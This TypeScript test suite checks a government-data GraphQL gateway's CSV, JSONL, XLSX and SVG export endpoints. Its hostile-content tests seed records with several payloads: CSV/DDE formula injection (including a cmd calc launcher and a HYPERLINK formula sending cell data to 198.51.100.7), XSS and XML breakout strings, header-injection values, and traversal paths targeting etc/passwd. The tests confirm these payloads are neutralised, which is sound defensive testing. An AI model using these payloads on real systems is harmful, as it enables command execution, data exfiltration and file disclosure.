import { get, type IncomingMessage } from 'node:http';
import { setTimeout as after } from 'node:timers/promises';
import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { inflateRawSync } from 'node:zlib';
import { buildClientSchema, getIntrospectionQuery } from 'graphql';
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { columnsOf } from '@helix/gateway/exports/columns';
import { exportedLists, pageSize, type ExportedList } from '@helix/gateway/exports/lists';
import { documentFor } from '@helix/gateway/exports/walk';
import { localSource } from '@helix/gateway/sources';
import type { IdentityId } from '@helix/local/identity/identities';
import { testGraph, topologies, type TestGraph } from '@helix/local/testing-graph';
import { maximalPageSize } from '@helix/service-kit/listing';
import { gatewayWith } from './gateway.ts';
import { errorsOf, expectRefusal, http } from './wire.ts';

type Format = 'csv' | 'jsonl' | 'xlsx';
type Parameters = Readonly<Record<string, string>>;
type Row = Readonly<Record<string, unknown>>;

const addressOf = (list: string, format: Format, parameters: Parameters = {}): string =>
  `/export/${list}.${format}?${new URLSearchParams(parameters).toString()}`;

interface Downloaded {
  readonly status: number;
  readonly headers: IncomingMessage['headers'];
  readonly trailers: IncomingMessage['trailers'];
  readonly bytes: Buffer;
  /** Whether the server said that this was all. */
  readonly isWhole: boolean;
}

/** Downloads as `curl` does, trailers and broken files too. */
function download(url: string, headers: Readonly<Record<string, string>> = {}): Promise<Downloaded> {
  const { promise, resolve, reject } = Promise.withResolvers<Downloaded>();
  get(url, { headers, agent: false }, (response) => {
    const parts: Uint8Array[] = [];
    response.on('data', (part: Uint8Array) => parts.push(part));
    // A file that breaks off is an error of the connection; what came of it counts.
    response.on('error', () => undefined);
    response.on('close', () =>
      resolve({
        status: response.statusCode!,
        headers: response.headers,
        trailers: response.trailers,
        bytes: Buffer.concat(parts),
        isWhole: response.complete,
      }),
    );
  }).on('error', reject);
  return promise;
}

const textOf = ({ bytes }: Downloaded): string => bytes.toString('utf8');
const jsonRows = (file: Downloaded): Row[] =>
  textOf(file)
    .split('\n')
    .filter(Boolean)
    .map((line) => JSON.parse(line) as Row);

const errorsIn = (file: Downloaded): string[] =>
  (JSON.parse(textOf(file)) as { errors: { extensions: { code: string } }[] }).errors.map(({ extensions }) => extensions.code);

/** Reads CSV as RFC 4180 has it. */
function csvRows(file: Downloaded): string[][] {
  const text = textOf(file);
  expect(text.startsWith('\ufeff')).toBe(true);
  const rows: string[][] = [];
  let row: string[] = [];
  for (const [, quoted, plain, end] of text.slice(1).matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
    row.push(quoted?.replaceAll('""', '"') ?? plain!);
    if (end === '\r\n') {
      rows.push(row);
      row = [];
    }
  }
  return rows;
}

/** The parts of a ZIP archive, by its directory. */
function partsOf({ bytes }: Downloaded): ReadonlyMap<string, string> {
  const parts = new Map<string, string>();
  const end = bytes.lastIndexOf(Buffer.from('PK\x05\x06'));
  let at = bytes.readUInt32LE(end + 16);
  for (let left = bytes.readUInt16LE(end + 10); left > 0; left -= 1) {
    const [size, nameLength, start] = [bytes.readUInt32LE(at + 20), bytes.readUInt16LE(at + 28), bytes.readUInt32LE(at + 42)];
    const name = bytes.toString('ascii', at + 46, at + 46 + nameLength);
    const content = start + 30 + bytes.readUInt16LE(start + 26);
    parts.set(name, inflateRawSync(bytes.subarray(content, content + size)).toString('utf8'));
    at += 46 + nameLength;
  }
  return parts;
}

/** Names that people or programs might write into a record (hostile cases C12, C13). */
const hostileNames = [
  `=cmd|' /C calc'!A0`,
  '=HYPERLINK("http://198.51.100.7/?x="&A1,"查看")',
  '+1+1',
  '-1-1',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r\n=1+1',
  '＝1+1',
  ' =1+1',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '</t></is></c><c r="A2"><f>1+1</f></c>',
  ']]><![CDATA[',
  '../../x',
  '甲，"乙"；丙,丁\n戊',
  '-5',
];

const longRows = 5_000;

describe.each(topologies)('exports and charts %s 导出与图表', (topology) => {
  let graph: TestGraph;
  beforeAll(async () => {
    graph = await testGraph({ topology });
    const { db } = graph.subgraphs.institutions.database;
    for (const [at, name] of hostileNames.entries()) {
      await sql`insert into institution (id, kind, sector, name_zh, aliases, region_code)
        values (${`hostile-${at}`}, 'INTERMEDIARY', 'SERVICE', ${name}, ${[name, 'x']}::text[], '330604')`.execute(db);
    }
    await sql`insert into institution (id, kind, sector, name_zh, aliases, region_code)
      select 'long-' || n, 'INVESTOR', 'FINANCE', '投资机构' || n, array[repeat('长', 2000) || n], '451000' from generate_series(1, ${longRows}) n`.execute(
      db,
    );
  });
  afterAll(() => graph.close());

  const exported = (
    list: string,
    format: Format,
    parameters?: Parameters,
    headers?: Readonly<Record<string, string>>,
  ): Promise<Downloaded> => download(graph.url + addressOf(list, format, parameters), headers);
  const as = (caller: IdentityId): Readonly<Record<string, string>> => ({ authorization: `Bearer ${graph.token(caller)}` });
  const refused = (path: string) => http(graph.url + path);

  /** Every record of a list as a client meets them who turns the pages. */
  async function walked(list: string, fields: string, argumentsText = '', asker: Pick<TestGraph, 'ask'> = graph): Promise<Row[]> {
    const rows: Row[] = [];
    for (let cursor: string | null = null; ;) {
      const query = `query($after: Cursor) { list: ${list}(first: 37, after: $after ${argumentsText}) { nodes { ${fields} } pageInfo { hasNextPage endCursor } } }`;
      const { data, errors } = await asker.ask(query, { after: cursor });
      expect(errors).toBeUndefined();
      const { list: page } = data as unknown as { list: { nodes: Row[]; pageInfo: { hasNextPage: boolean; endCursor: string } } };
      rows.push(...page.nodes);
      if (!page.pageInfo.hasNextPage) return rows;
      cursor = page.pageInfo.endCursor;
    }
  }

  describe('what a file holds', () => {
    it.each([
      ['projects', '{"isKey":true}', ', filter: {isKey: true}'],
      ['techContracts', '', ''],
      ['challenges', '', ''],
      [
        'indicatorObservations',
        '{"regionCode":["430300","330604"],"hasValue":true}',
        ', filter: {regionCode: ["430300", "330604"], hasValue: true}',
      ],
      ['demands', '', ''],
      ['institutions', '{"kind":["UNIVERSITY"]}', ', filter: {kind: [UNIVERSITY]}'],
    ])('is what a walk of %s meets, filtered by %j, in each format', async (list, filter, argumentsText) => {
      const expected = (await walked(list, 'id', argumentsText)).map(({ id }) => id);
      expect(expected.length).toBeGreaterThan(0);
      const parameters = { fields: 'id', ...(filter && { filter }) };
      const [lines, table, workbook] = await Promise.all(
        (['jsonl', 'csv', 'xlsx'] as const).map((format) => exported(list, format, parameters)),
      );
      expect(jsonRows(lines!).map(({ id }) => id)).toEqual(expected);
      expect(csvRows(table!).slice(1)).toEqual(expected.map((id) => [id]));
      expect([
        ...partsOf(workbook!)
          .get('xl/worksheets/sheet1.xml')!
          .matchAll(/<row r="(\d+)"/g),
      ]).toHaveLength(expected.length + 1);
      for (const file of [lines!, table!, workbook!]) {
        expect(file.headers['helix-total-count']).toBe(String(expected.length));
        expect(file.trailers).toEqual({ 'helix-rows': String(expected.length), 'helix-withheld': '0' });
      }
    });

    it('follows the order asked for', async () => {
      const [up, down] = await Promise.all(
        ['ASC', 'DESC'].map((way) => exported('projects', 'jsonl', { fields: 'approvedOn', orderBy: `APPROVED_ON:${way}` })),
      );
      const days = jsonRows(up!).flatMap(({ approvedOn }) => (approvedOn === null ? [] : [approvedOn as string]));
      expect(days.length).toBeGreaterThan(100);
      expect(days).toEqual(days.toSorted());
      expect(jsonRows(down!).flatMap(({ approvedOn }) => (approvedOn === null ? [] : [approvedOn]))).toEqual(days.toReversed());
    });

    it('reaches across bureaus, with amounts exact and named with their unit', async () => {
      const parameters = { fields: 'id,buyer.nameZh,amount,amount.fen,buyerRegion.nameZh' };
      const rows = jsonRows(await exported('techContracts', 'jsonl', parameters));
      const expected = await walked('techContracts', 'id buyer { nameZh } amount { wan fen } buyerRegion { nameZh }');
      expect(rows).toEqual(
        (expected as { id: string; buyer: Row; amount: Row | null; buyerRegion: Row }[]).map(({ id, buyer, amount, buyerRegion }) => ({
          id,
          'buyer.nameZh': buyer['nameZh'],
          'amount.wan': amount?.['wan'] ?? null,
          'amount.fen': amount?.['fen'] ?? null,
          'buyerRegion.nameZh': buyerRegion['nameZh'],
        })),
      );
      const [headings] = csvRows(await exported('techContracts', 'csv', parameters));
      expect(headings![1]).toMatch(/^买方·中文名称 The buyer · Name in Chinese$/);
      expect(headings!.slice(2, 4)).toEqual([
        expect.stringMatching(/^.*合同额（万元） .+ \(10,000 yuan\)$/),
        expect.stringMatching(/^.*合同额（分） .+ \(fen\)$/),
      ]);
    });

    it('tells on a second sheet what was asked, by whom, and of which bureaus', async () => {
      const filter = '{"kind":["UNIVERSITY"],"text":"<b>&"}';
      const file = await exported('institutions', 'xlsx', { fields: 'nameZh,contractSummary', filter: '{"kind":["UNIVERSITY"]}' });
      expect(file.status).toBe(400);
      const told = partsOf(await exported('institutions', 'xlsx', { fields: 'nameZh,kind', filter })).get('xl/worksheets/sheet2.xml')!;
      expect(told).toContain('{"kind":["UNIVERSITY"],"text":"&lt;b&gt;&amp;"}');
      expect(told).toContain('>PUBLIC<');
      expect(told).toContain('工业和信息化局');
      expect(told).not.toContain('财政局');
      expect(told).toContain('UNIVERSITY＝高等院校');
    });
  });

  describe('hostile content', () => {
    const own = { filter: '{"regionCode":["330604"],"kind":["INTERMEDIARY"]}', fields: 'id,nameZh,aliases' };
    const ours = <R extends { readonly id?: unknown }>(rows: readonly R[]): R[] =>
      rows.filter(({ id }) => String(id).startsWith('hostile-'));

    it('[C12] is neutralised in CSV, and nothing of it is lost', async () => {
      const file = await exported('institutions', 'csv', own);
      const rows = csvRows(file).filter(([id]) => id!.startsWith('hostile-'));
      expect(rows).toHaveLength(hostileNames.length);
      for (const [id, name, aliases] of rows) {
        for (const cell of [name!, aliases!]) expect(cell).not.toMatch(/^[\s]*[=+@＝\t\r]|^\s*-(?!\d+$)/);
        const original = hostileNames[Number(id!.slice('hostile-'.length))]!;
        expect([original, `'${original}`]).toContain(name);
      }
      expect(rows.find(([id]) => id === `hostile-${hostileNames.indexOf('-5')}`)![1]).toBe('-5');
    });

    it('[C12] [C13] is text in XLSX, never formula or markup', async () => {
      const parts = partsOf(await exported('institutions', 'xlsx', own));
      const sheet = parts.get('xl/worksheets/sheet1.xml')!;
      expect(sheet).not.toMatch(/<f[ >/]|<script|<img|<!\[CDATA\[/);
      expect(sheet).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
      for (const [, type, text] of sheet.matchAll(/<c [^>]*t="(\w+)"[^>]*>(?:<is><t xml:space="preserve">)?([^<]*)/g)) {
        if (/^[=+@]/.test(text!)) expect(type).toBe('inlineStr');
      }
      expect([...parts.keys()].filter((name) => /externalLink|vba|macro|calcChain/i.test(name))).toEqual([]);
    });

    it('[C13] stays exactly as it is in JSON Lines', async () => {
      const names = ours(jsonRows(await exported('institutions', 'jsonl', own)) as { id?: unknown; nameZh?: unknown }[]);
      expect(names.map(({ id, nameZh }) => [id, nameZh]).toSorted()).toEqual(
        hostileNames.map((name, at) => [`hostile-${at}`, name]).toSorted(),
      );
    });

    it('[C13] is text in a chart', async () => {
      const { db } = graph.subgraphs.coordination.database;
      await sql`update indicator set name_zh = ${'<script>alert(1)</script>"><image href="http://198.51.100.7/x"/>'} where code = 'IN-46'`.execute(
        db,
      );
      await sql`update indicator_observation set scope_zh = ${'<script>alert(2)</script>{a|b}'} where indicator_code = 'IN-46' and region_code = '430300'`.execute(
        db,
      );
      const { status, headers, bytes } = await download(`${graph.url}/chart/indicator/IN-46.svg?region=430300`);
      expect([status, headers['content-type']]).toEqual([200, 'image/svg+xml; charset=utf-8']);
      expect(headers['content-security-policy']).toMatch(/default-src 'none'.*sandbox/);
      const svg = bytes.toString('utf8');
      expect(svg).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
      expect(svg).toContain('&lt;script&gt;alert(2)&lt;/script&gt;{a|b}');
      expect(svg).not.toMatch(/<(?:script|image|img|foreignObject|style|a)\b/);
    });

    it('[C14] names no file: its name is made here', async () => {
      const hostile = { filter: '{"text":"../../x\\r\\nset-cookie: a=b"}', fields: 'id' };
      for (const format of ['csv', 'jsonl', 'xlsx'] as const) {
        const { status, headers } = await exported('institutions', format, hostile);
        expect(status).toBe(200);
        expect(headers['content-disposition']).toMatch(
          new RegExp(`^attachment; filename="helix-\\d{4}-\\d\\d-\\d\\d-[0-9a-f]{8}-[0-9a-f]{4}\\.${format}"$`),
        );
        expect(headers).not.toHaveProperty('set-cookie');
        expect(headers['x-content-type-options']).toBe('nosniff');
      }
    });

    it.each([
      '/export/..%2f..%2fx.csv',
      '/export/%2e%2e%2f%2e%2e%2fetc%2fpasswd.csv',
      '/export/institutions.csv%00.jsonl',
      '/export/institutions.exe',
      '/export/institutions',
      '/export/nothing.csv',
      '/export/constructor.csv',
      '/export/__proto__.csv',
      '/export/institution.csv',
      '/export/reportingDuties.csv',
      '/chart/indicator/..%2f..%2fx.svg?region=430300',
      '/chart/indicator/IN-9999.svg?region=430300',
      '/chart/indicator/IN-45.svg?region=650000',
    ])('[C14] finds nothing at %s', async (path) => {
      expectRefusal(await refused(path), 404, 'BAD_REQUEST');
    });
  });

  describe('rights', () => {
    it('[H1] withholds from the public what GraphQL withholds, and says how many columns that concerns', async () => {
      const file = await exported('talents', 'csv', { fields: 'id,ageBand,legalName' });
      const [, ...rows] = csvRows(file);
      expect(rows.length).toBeGreaterThan(100);
      expect(rows.filter(([, ageBand, legalName]) => ageBand || legalName)).toEqual([]);
      expect(file.trailers['helix-withheld']).toBe('2');
      const told = partsOf(await exported('talents', 'xlsx', { fields: 'id,ageBand' })).get('xl/worksheets/sheet2.xml')!;
      expect(told).toMatch(/ageBand：个人身份信息/);
    });

    it.each(['bureau-officer-talent', 'institution-admin', 'enterprise-user', 'provincial-report', 'city-leader'] as const)(
      '[H1] shows %s what GraphQL shows, value by value and record by record',
      async (caller) => {
        for (const [list, fields] of [
          ['talents', 'id displayName ageBand legalName'],
          ['demands', 'id titleZh'],
          ['subsidyApplications', 'id'],
          ['techContracts', 'id'],
        ] as const) {
          const expected = await walked(list, fields, '', graph.as(caller));
          const rows = jsonRows(await exported(list, 'jsonl', { fields: fields.replaceAll(' ', ',') }, as(caller)));
          expect([list, rows]).toEqual([list, expected]);
        }
      },
    );

    it('[H1] shows the office in charge what it hides from the public', async () => {
      const rows = jsonRows(await exported('talents', 'jsonl', { fields: 'id,ageBand' }, as('bureau-officer-talent')));
      expect(rows.filter(({ ageBand }) => ageBand !== null).length).toBeGreaterThan(10);
    });

    it('[H1] leaves hidden records out, and out of the count', async () => {
      const { rows } = await sql<{ count: string }>`select count(*) as count from demand`.execute(graph.subgraphs.achievements.database.db);
      const file = await exported('demands', 'jsonl', { fields: 'id' });
      expect(Number(file.headers['helix-total-count'])).toBeLessThan(Number(rows[0]!.count));
      expect(jsonRows(file)).toHaveLength(Number(file.headers['helix-total-count']));
    });

    it('[H1] refuses to filter by what the caller may not see, as GraphQL does', async () => {
      const { errors } = await graph.ask('{ partTimeAppointments(filter: { hasConsent: true }) { totalCount } }');
      expect(errors?.map(({ extensions }) => extensions['code'])).toEqual(['FORBIDDEN']);
      const reply = await http(graph.url + addressOf('partTimeAppointments', 'csv', { fields: 'id', filter: '{"hasConsent":true}' }));
      expectRefusal(reply, 403, 'FORBIDDEN');
    });

    it('knows a token that is no token', async () => {
      for (const path of [addressOf('institutions', 'csv'), '/chart/indicator/IN-45.svg?region=430300']) {
        expectRefusal(await http(graph.url + path, { headers: { authorization: 'Bearer nonsense' } }), 401, 'UNAUTHENTICATED');
      }
    });
  });

  describe('refusals before the first byte', () => {
    it.each([
      ['fields=nope', 'fields: nope'],
      ['fields=id,region.nope', 'fields: region.nope'],
      ['fields=id%20%7D%20institutions%20%7B%20totalCount', 'fields: id } institutions { totalCount'],
      ['filter=%7B%22nope%22%3A1%7D', 'filter'],
      ['filter=%7B%22kind%22%3A%5B%22NOPE%22%5D%7D', 'filter'],
      ['filter=%7B', 'filter'],
      ['filter=%5B%5D', 'filter'],
      ['orderBy=NOPE:ASC', 'orderBy'],
      ['orderBy=NAME', 'orderBy'],
      ['filtre=%7B%7D', 'filtre'],
    ])('names what is wrong with ?%s', async (query, argument) => {
      for (const accept of ['*/*', 'application/json']) {
        const reply = await http(`${graph.url}/export/institutions.csv?${query}`, { headers: { accept } });
        const [error] = expectRefusal(reply, 400, 'BAD_USER_INPUT');
        expect(error!.extensions['argument']).toBe(argument);
      }
    });

    it('refuses a parameter given twice, and one that is no UTF-8', async () => {
      expectRefusal(await refused('/export/institutions.csv?fields=id&fields=id'), 400, 'BAD_REQUEST');
      expectRefusal(await refused('/export/institutions.csv?fields=%ff'), 400, 'BAD_REQUEST');
    });

    it('answers GET alone', async () => {
      for (const method of ['POST', 'PUT', 'DELETE', 'HEAD']) {
        expect((await fetch(`${graph.url}/export/institutions.csv`, { method })).status).toBe(404);
      }
    });
  });

  describe('many records', { timeout: 120_000 }, () => {
    const long = { filter: '{"kind":["INVESTOR"],"regionCode":["451000"]}', fields: 'id,nameZh,aliases' };

    it('are streamed: what is held does not grow with the file', async () => {
      setFlagsFromString('--expose-gc');
      const collectGarbage = runInNewContext('gc') as () => void;
      const held = (): number => {
        collectGarbage();
        const { heapUsed, external } = process.memoryUsage();
        return heapUsed + external;
      };
      const response = await fetch(graph.url + addressOf('institutions', 'csv', long));
      expect(Number(response.headers.get('helix-total-count'))).toBeGreaterThanOrEqual(longRows);
      const before = held();
      let [most, bytes, looked] = [0, 0, 0];
      for await (const part of response.body!) {
        bytes += part.length;
        if (bytes < looked + 4_000_000) continue;
        looked = bytes;
        most = Math.max(most, held() - before);
      }
      expect(bytes).toBeGreaterThan(longRows * 6_000);
      expect(most).toBeLessThan(20_000_000);
    });

    it('are asked for no faster than the client takes them', async () => {
      let response: IncomingMessage | undefined;
      const asked = await graph.selectsDuring(async () => {
        response = await new Promise<IncomingMessage>((resolve) =>
          get(graph.url + addressOf('institutions', 'csv', long), { agent: false }, resolve),
        );
        response.pause();
        await after(2_500);
      });
      // Some pages fit into the buffers on the way; all of them are 51.
      expect(asked.institutions).toBeLessThan(35);
      const rest = await graph.selectsDuring(async () => {
        for await (const part of response!) expect(part).toBeDefined();
      });
      expect(response!.complete).toBe(true);
      expect(asked.institutions + rest.institutions).toBe(longRows / pageSize + 1);
    });

    it('are asked for no more once the client is gone', async () => {
      const asked = await graph.selectsDuring(async () => {
        const response = await new Promise<IncomingMessage>((resolve) =>
          get(graph.url + addressOf('institutions', 'jsonl', long), { agent: false }, resolve),
        );
        response.on('error', () => undefined);
        await new Promise((resolve) => response.once('data', resolve));
        response.destroy();
        await after(150);
      });
      const later = await graph.selectsDuring(() => after(1_000));
      expect(asked.institutions).toBeLessThan(30);
      expect(later.institutions).toBe(0);
    });
  });

  describe('a bureau that fails', { timeout: 60_000 }, () => {
    /** A gateway whose subgraph of institutions answers so many times, then fails. */
    function gatewayThatLoses(answers: number) {
      const subgraph = graph.subgraphs.institutions;
      let left = answers;
      const answer: typeof subgraph.answer = (operation) =>
        (left -= 1) >= 0 ? subgraph.answer(operation) : Promise.reject(new Error('socket hang up at 10.0.0.7:5432'));
      return gatewayWith(graph, {}, { reached: { institutions: localSource({ ...subgraph, answer }) } });
    }
    const fields = { fields: 'id,nameZh' };

    it('is told as an error where nothing was sent yet', async () => {
      const gateway = await gatewayThatLoses(0);
      try {
        const [error] = expectRefusal(await http(gateway.url + addressOf('institutions', 'csv', fields)), 503, 'SUBGRAPH_UNAVAILABLE');
        expect(error!.extensions['ownerZh']).toBe('工业和信息化局（会同教育局）');
      } finally {
        await gateway.close();
      }
    });

    it('breaks a file off so that nobody takes it for whole; JSON Lines end with the reason', async () => {
      for (const format of ['csv', 'xlsx', 'jsonl'] as const) {
        const gateway = await gatewayThatLoses(3);
        try {
          const file = await download(gateway.url + addressOf('institutions', format, fields));
          expect([format, file.status, file.isWhole, file.trailers]).toEqual([format, 200, false, {}]);
          expect(textOf(file)).not.toContain('10.0.0.7');
          if (format !== 'jsonl') continue;
          const rows = jsonRows(file);
          expect(rows).toHaveLength(3 * pageSize + 1);
          expect(rows.at(-1)).toMatchObject({ errors: [{ extensions: { code: 'SUBGRAPH_UNAVAILABLE' } }] });
        } finally {
          await gateway.close();
        }
      }
    });

    it('does not leave gaps where it only adds to records of others', async () => {
      const gateway = await gatewayThatLoses(0);
      try {
        const reply = await http(gateway.url + addressOf('techContracts', 'csv', { fields: 'id,buyer.nameZh' }));
        expect([reply.status, errorsOf(reply)[0]?.extensions['code']]).toEqual([503, 'SUBGRAPH_UNAVAILABLE']);
      } finally {
        await gateway.close();
      }
    });
  });
});

describe('every list of the graph 每一个列表', () => {
  let graph: TestGraph;
  beforeAll(async () => {
    graph = await testGraph();
  });
  afterAll(() => graph.close());

  /** Every value of the default columns as GraphQL answers them page by page, or the code with which it refuses. */
  async function asked(list: ExportedList): Promise<Row[] | string> {
    const columns = columnsOf(list.record, null);
    const query = documentFor({ list, columns, filter: null, orderBy: null });
    const rows: Row[] = [];
    for (let cursor: string | null = null; ;) {
      const { data, errors } = await graph.ask(query, { first: pageSize, after: cursor, counted: false });
      if (errors) return String(errors[0]!.extensions['code']);
      const { nodes, pageInfo } = (data as Record<string, { nodes: unknown[]; pageInfo: { hasNextPage: boolean; endCursor: string } }>)[
        list.name
      ]!;
      rows.push(...nodes.map((node) => Object.fromEntries(columns.map((column) => [column.path, column.valueIn(node)]))));
      if (!pageInfo.hasNextPage) return rows;
      cursor = pageInfo.endCursor;
    }
  }

  it('can be exported by its default columns, exactly as GraphQL answers them', async () => {
    const { data } = await graph.ask(getIntrospectionQuery());
    const lists = exportedLists(buildClientSchema(data));
    expect(lists.size).toBeGreaterThan(80);
    let records = 0;
    for (const list of lists.values()) {
      const file = await download(graph.url + addressOf(list.name, 'jsonl'));
      const found = file.status === 200 ? jsonRows(file) : errorsIn(file)[0];
      expect([list.name, found]).toEqual([list.name, await asked(list)]);
      records += file.status === 200 ? found!.length : 0;
    }
    expect(records).toBeGreaterThan(10_000);
  }, 180_000);

  it('is walked by the largest page that lists give', () => expect(pageSize).toBe(maximalPageSize));
});

describe('limits 限额', () => {
  let graph: TestGraph;
  beforeAll(async () => {
    graph = await testGraph({ world: 'real' });
  });
  afterAll(() => graph.close());

  it('B14 counts exports with all that a client asks, and has them wait rather than fail', async () => {
    const gateway = await gatewayWith(graph, { HELIX_CLIENT_REQUESTS_PER_SECOND: '2', HELIX_CLIENT_BURST: '3' });
    try {
      const start = performance.now();
      const file = await download(gateway.url + addressOf('policyClauses', 'jsonl', { fields: 'id' }));
      const pages = Math.ceil(Number(file.headers['helix-total-count']) / pageSize);
      expect(jsonRows(file)).toHaveLength(Number(file.headers['helix-total-count']));
      expect(performance.now() - start).toBeGreaterThan(pages > 3 ? 500 : 0);
      const replies = await Promise.all(
        Array.from({ length: 6 }, () => http(gateway.url + addressOf('policyDocuments', 'csv', { fields: 'id' }))),
      );
      expect(replies.some(({ status }) => status === 429)).toBe(true);
    } finally {
      await gateway.close();
    }
  });

  it('serve exports in production too, where clients may not write operations', async () => {
    const gateway = await gatewayWith(graph, { NODE_ENV: 'production', HELIX_MAX_COST: '150' });
    try {
      expect((await download(gateway.url + addressOf('policyDocuments', 'csv', { fields: 'id' }))).status).toBe(200);
      expectRefusal(
        await http(gateway.url + addressOf('policyClauses', 'csv', { fields: 'document.titleZh' })),
        400,
        'OPERATION_TOO_LARGE',
      );
    } finally {
      await gateway.close();
    }
  });
});
